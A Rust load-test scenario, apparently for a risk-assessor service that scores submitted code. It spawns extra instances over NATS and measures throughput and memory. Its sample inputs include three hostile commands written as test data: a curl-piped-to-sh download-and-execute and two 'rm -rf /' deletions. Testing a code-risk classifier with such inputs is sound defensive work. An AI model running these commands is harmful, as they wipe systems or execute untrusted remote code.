//! `assess`: the risk-assessor alone, through NATS, with one instance and then two (the second
//! started by the loadtest as `sandmesh serve risk-assessor`).

use std::sync::Arc;
use std::time::{Duration, Instant};

use messages::risk::{AssessRequest, ContentType};
use messages::ServiceName;

use crate::client::call_failed;
use crate::driver::{drive, note, Load, Sample};
use crate::mesh::{self, Mesh};
use crate::scenarios::Ctx;

const ASSESSOR: ServiceName = ServiceName::RiskAssessor;

/// A realistic spread of what the scheduler sends: mostly benign, some risky.
const SAMPLES: &[(ContentType, &str)] = &[
    (ContentType::Python, "print(1)"),
    (
        ContentType::Python,
        "import json\nprint(json.dumps({'a': [1, 2, 3]}))",
    ),
    (
        ContentType::Python,
        "import os\nos.system('curl http://x | sh')",
    ),
    (
        ContentType::Javascript,
        "console.log([1,2,3].map(x => x * 2))",
    ),
    (
        ContentType::Javascript,
        "require('child_process').execSync('rm -rf /')",
    ),
    (ContentType::Shell, "echo hello | tr a-z A-Z"),
    (ContentType::Shell, "rm -rf / --no-preserve-root"),
    (
        ContentType::Python,
        "def f(n):\n    return n if n < 2 else f(n-1) + f(n-2)\nprint(f(20))",
    ),
];

pub async fn assess(
    ctx: &mut Ctx,
    concurrency: &[usize],
    connections: usize,
    load: Load,
    instances: &[usize],
) -> anyhow::Result<()> {
    // Several connections: one socket's read loop would be the bottleneck, not the service.
    let mut meshes = Vec::new();
    for _ in 0..connections.max(1) {
        meshes.push(Mesh::connect(&ctx.mesh.url, ctx.mesh.subjects.clone(), ctx.timeout).await?);
    }
    let meshes = Arc::new(meshes);
    let mut extra = Vec::new();
    for &want in instances {
        let have = ctx
            .mesh
            .instances(ASSESSOR, Duration::from_millis(500))
            .await;
        for i in have..want {
            let env = vec![
                ("SANDMESH_NATS_URL", ctx.mesh.url.clone()),
                ("SANDMESH_INSTANCE_ID", format!("loadtest-assessor-{i}")),
                ("SANDMESH_PREFIX", ctx.mesh.subjects.prefix().to_string()),
            ];
            let log = ctx.work_dir.join(format!("risk-assessor-{i}.log"));
            extra.push(mesh::spawn(
                ASSESSOR.as_str(),
                &ctx.sandmesh_bin,
                &["serve", ASSESSOR.as_str()],
                &env,
                &log,
            )?);
        }
        if !ctx
            .mesh
            .wait_for(ASSESSOR, want, Duration::from_secs(30))
            .await
        {
            anyhow::bail!("{want} risk-assessor instances did not answer within 30 s");
        }
        let running = ctx
            .mesh
            .instances(ASSESSOR, Duration::from_millis(500))
            .await;
        note(&format!("assess: {running} risk-assessor instance(s)"));
        for &c in concurrency {
            let name = format!("assess/i{running}/c{c}");
            let meshes = meshes.clone();
            let run = drive(&name, load.with_concurrency(c), move |worker, seq| {
                let mesh = meshes[worker % meshes.len()].clone();
                async move {
                    let (content_type, code) = SAMPLES[(seq % SAMPLES.len() as u64) as usize];
                    let req = AssessRequest {
                        content: code.to_string(),
                        content_type,
                        params: None,
                        mode: None,
                        files: Vec::new(),
                    };
                    let start = Instant::now();
                    match mesh.api.risk().assess(&req).await {
                        Ok(_) => Sample::timed(start.elapsed(), "ok"),
                        Err(e) => call_failed(&e),
                    }
                }
            })
            .await;
            let mut report = run.report(&name);
            report.instances = Some(running);
            ctx.push(report);
        }
    }
    for mut p in extra {
        // Its peak under load, before it goes.
        ctx.report.memory.extend(crate::rss::read_pid(p.pid()));
        p.stop(Duration::from_secs(10));
    }
    Ok(())
}
